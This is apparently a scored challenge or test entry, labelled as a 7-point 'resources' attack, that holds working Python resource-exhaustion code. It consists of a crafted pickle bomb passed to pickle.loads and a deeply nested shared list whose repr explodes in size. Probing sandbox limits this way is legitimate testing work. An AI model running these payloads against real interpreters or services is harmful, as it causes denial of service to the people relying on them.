# attack: unpickles lists of lists of lists
# family: resources
# base: solved
# points: 7
# %% last
import pickle
bomb = b"\x80\x04Nr\xff\xff\xff\x3f."  # a memo of a billion places
try:
    pickle.loads(bomb)
except Exception as error:
    print(type(error))
nested = ["x" * 1000]
for _ in range(12):
    nested = [nested] * 20
repr(nested)
